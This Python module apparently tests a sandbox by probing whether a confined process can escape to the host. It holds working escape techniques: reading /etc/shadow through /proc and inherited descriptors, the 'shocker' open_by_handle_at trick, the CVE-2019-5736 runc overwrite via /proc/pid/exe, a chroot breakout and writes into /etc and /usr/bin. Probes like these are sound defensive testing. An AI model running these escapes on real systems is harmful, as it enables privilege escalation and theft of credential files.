"""Files of the host: to read what is secret, to write anything at all."""

# ruff: noqa: ARG001 - every probe is told of the bait

from __future__ import annotations

import ctypes
import errno
import os
import stat
import subprocess
from collections.abc import Iterator
from typing import Any

from .common import (
    AT_FDCWD,
    Refused,
    first_that_opens,
    is_bait,
    opens,
    others,
    syscall,
)


def shadow_by_path(bait: Any) -> str:
    """Read /etc/shadow."""
    return opens("/etc/shadow")


def shadow_by_proc_1_root(bait: Any) -> str:
    """Read /etc/shadow through the root of another process."""
    return first_that_opens([f"/proc/{pid}/root/etc/shadow" for pid in others(bait)])


def shadow_by_inherited_descriptor(bait: Any) -> str:
    """Read /etc/shadow through a descriptor that the launcher had open."""
    for fd in range(3, 64):
        try:
            if os.path.basename(os.readlink(f"/proc/self/fd/{fd}")) == "shadow":
                os.read(fd, 0)
                return f"descriptor {fd}"
        except OSError:
            continue
    raise Refused("closed")


def directory_by_inherited_descriptor(bait: Any) -> str:
    """Write a file of the host, beginning at a descriptor of its root."""
    for fd in range(3, 64):
        try:
            file = os.open(bait["file"].lstrip("/"), os.O_WRONLY, dir_fd=fd)
        except OSError:
            continue
        if is_bait(os.fstat(file), bait["file_id"]):
            return f"descriptor {fd}"
    raise Refused("closed")


def any_inherited_descriptor(bait: Any) -> str:
    """Use any descriptor of the launcher's beyond the standard three."""
    directory = os.open("/proc/self/fd", os.O_RDONLY)
    left = [int(name) for name in os.listdir(directory) if int(name) > 2 and int(name) != directory]
    for fd in left:
        try:
            os.fstat(fd)
            return f"descriptor {fd}"
        except OSError:
            continue
    raise Refused("closed")


def open_by_handle(bait: Any) -> str:
    """Open a file by its handle, past every directory: what "shocker" did to the first Docker."""

    class Handle(ctypes.Structure):
        _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("content", ctypes.c_ubyte * 128))

    handle, mount = Handle(size=128), ctypes.c_int()
    libc = ctypes.CDLL(None, use_errno=True)
    place = bait["file"].encode() if os.path.exists(bait["file"]) else b"/etc/passwd"
    if libc.name_to_handle_at(AT_FDCWD, place, ctypes.byref(handle), ctypes.byref(mount), 0):
        # A handle is easily guessed: that of the root of an ext4 file system is its inode's number, 2.
        handle.size, handle.kind = 8, 1
        handle.content[0] = 2
    fd = os.open(os.path.dirname(place) or b"/", os.O_RDONLY)
    return f"descriptor {syscall('open_by_handle_at', fd, ctypes.byref(handle), os.O_RDONLY)}"


def hosts_own_file(bait: Any) -> str:
    """Open for writing a file of the caller's own."""
    fd = os.open(bait["file"], os.O_WRONLY)
    if not is_bait(os.fstat(fd), bait["file_id"]):
        raise Refused("another file")
    return bait["file"]  # type: ignore[no-any-return]


def create_beside_hosts_file(bait: Any) -> str:
    """Create a file in a directory of the caller's own."""
    if not is_bait(os.stat(bait["directory"]), bait["directory_id"]):
        raise Refused("another directory")
    path = f"{bait['directory']}/made"
    os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    os.unlink(path)
    return path


def change_mode_of_hosts_file(bait: Any) -> str:
    """Change the mode of a file of the caller's own, to what it is."""
    if not is_bait(os.stat(bait["file"]), bait["file_id"]):
        raise Refused("another file")
    os.chmod(bait["file"], 0o644)
    return "chmod"


def change_times_of_hosts_file(bait: Any) -> str:
    """Change the times of a file of the caller's own."""
    if not is_bait(os.stat(bait["file"]), bait["file_id"]):
        raise Refused("another file")
    os.utime(bait["file"])
    return "utime"


def passwd_for_writing(bait: Any) -> str:
    """Open /etc/passwd for writing."""
    return opens("/etc/passwd", os.O_WRONLY)


def usr_for_writing(bait: Any) -> str:
    """Create a file in /usr/bin."""
    path = f"/usr/bin/{bait['mark']}"
    os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    os.unlink(path)
    return path


def places(bait: Any, depth: int) -> Iterator[tuple[str, list[str]]]:
    """The directories that can be seen and lie on file systems of the host, with their files."""
    for directory, below, names in os.walk("/"):
        if directory.count("/") >= depth or directory in ("/proc", "/sys"):
            below.clear()
        elif os.stat(directory).st_dev in bait["file_systems"]:
            yield directory, names


def write_into_any_directory(bait: Any) -> str:
    """Make a file without a name in any directory of the host's, three levels deep: O_TMPFILE."""
    for directory, _ in places(bait, 3):
        try:
            os.close(os.open(directory, os.O_TMPFILE | os.O_WRONLY, 0o600))
            return directory
        except OSError:
            continue
    raise Refused("nowhere")


def write_any_file(bait: Any) -> str:
    """Open any regular file of the host's for writing, three levels deep."""
    for directory, names in places(bait, 3):
        for path in (os.path.join(directory, name) for name in names):
            try:
                found = os.lstat(path)
                if stat.S_ISREG(found.st_mode) and found.st_dev in bait["file_systems"]:
                    return opens(path, os.O_WRONLY | os.O_NOFOLLOW)
            except OSError:
                continue
    raise Refused("none")


def write_any_setting(bait: Any) -> str:
    """Open any file of /proc/sys or /sys for writing: also those that are of one's own namespaces only."""
    for top in ("/proc/sys", "/sys"):
        for directory, below, names in os.walk(top):
            if directory.count("/") > 6:
                below.clear()
            for name in names:
                try:
                    return opens(os.path.join(directory, name), os.O_WRONLY)
                except OSError:
                    continue
    raise Refused("none")


def set_an_attribute(bait: Any) -> str:
    """Set an attribute of a file of the caller's own."""
    if not is_bait(os.stat(bait["file"]), bait["file_id"]):
        raise Refused("another file")
    os.setxattr(bait["file"], "user.escape", b"x")
    return "setxattr"


def rename_a_file(bait: Any) -> str:
    """Rename a file of the caller's own, to what it is called: through another name."""
    if not is_bait(os.stat(bait["file"]), bait["file_id"]):
        raise Refused("another file")
    os.rename(bait["file"], bait["file"] + "-renamed")
    os.rename(bait["file"] + "-renamed", bait["file"])
    return "rename"


def device_on_a_file_system(bait: Any) -> str:
    """Use a device that lies among the host's files: /dev/null, made by root outside of /dev."""
    if bait["device"] is None:
        raise Refused("none there")
    os.close(os.open(bait["device"], os.O_RDWR))
    return bait["device"]  # type: ignore[no-any-return]


def working_directory(bait: Any) -> str:
    """Create a file in the directory in which the launcher was started."""
    if not is_bait(os.stat("."), bait["directory_id"]):
        raise Refused("another directory")
    os.close(os.open("made-here", os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    os.unlink("made-here")
    return os.getcwd()


def hosts_tmp(bait: Any) -> str:
    """See a file in the host's /tmp."""
    if not is_bait(os.stat(bait["in_tmp"]), bait["in_tmp_id"]):
        raise Refused("another file")
    return bait["in_tmp"]  # type: ignore[no-any-return]


def hosts_shared_memory(bait: Any) -> str:
    """See a file in the host's /dev/shm."""
    if not is_bait(os.stat(bait["in_shm"]), bait["in_shm_id"]):
        raise Refused("another file")
    return bait["in_shm"]  # type: ignore[no-any-return]


def file_by_root_of_a_process(bait: Any) -> str:
    """Open a file of the host for writing through the root of another process."""
    return first_that_opens([f"/proc/{pid}/root{bait['file']}" for pid in others(bait)], os.O_WRONLY)


def file_by_descriptor_of_a_process(bait: Any) -> str:
    """Open what another process has open."""
    for pid in others(bait):
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                if os.readlink(f"/proc/{pid}/fd/{fd}").startswith(("/", "pipe:")):
                    return opens(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
    raise Refused("none can be looked into")


def program_of_a_process(bait: Any) -> str:
    """Open for writing the program that another process executes, as CVE-2019-5736 did with runc."""
    try:
        return first_that_opens([f"/proc/{pid}/exe" for pid in others(bait)], os.O_WRONLY)
    except OSError as error:
        if error.errno != errno.ETXTBSY:
            raise
        return "but for its being executed just now"


def setuid_program(bait: Any) -> str:
    """Execute a setuid program, and have its owner's identity."""
    words = bait["setuid"]
    if not words:
        raise Refused("none there")
    with subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as child:
        try:
            # The kernel closes what Popen waits for a little before it changes the identity.
            for _ in range(1000):
                with open(f"/proc/{child.pid}/status", encoding="utf-8") as file:
                    status = file.read()
                real, effective = status[status.index("Uid:") :].split()[1:3]
                if real != effective:
                    return f"uid {effective}"
        finally:
            child.kill()
    raise Refused("not its owner's identity")


def leave_by_chroot(bait: Any) -> str:
    """Leave the root by the directories above it, after chroot(2) into one of them."""
    # It needs CAP_SYS_CHROOT, and a descriptor outside the new root, which chroot leaves one with.
    here = os.open(".", os.O_RDONLY)
    os.chroot("/proc")
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return "chroot"
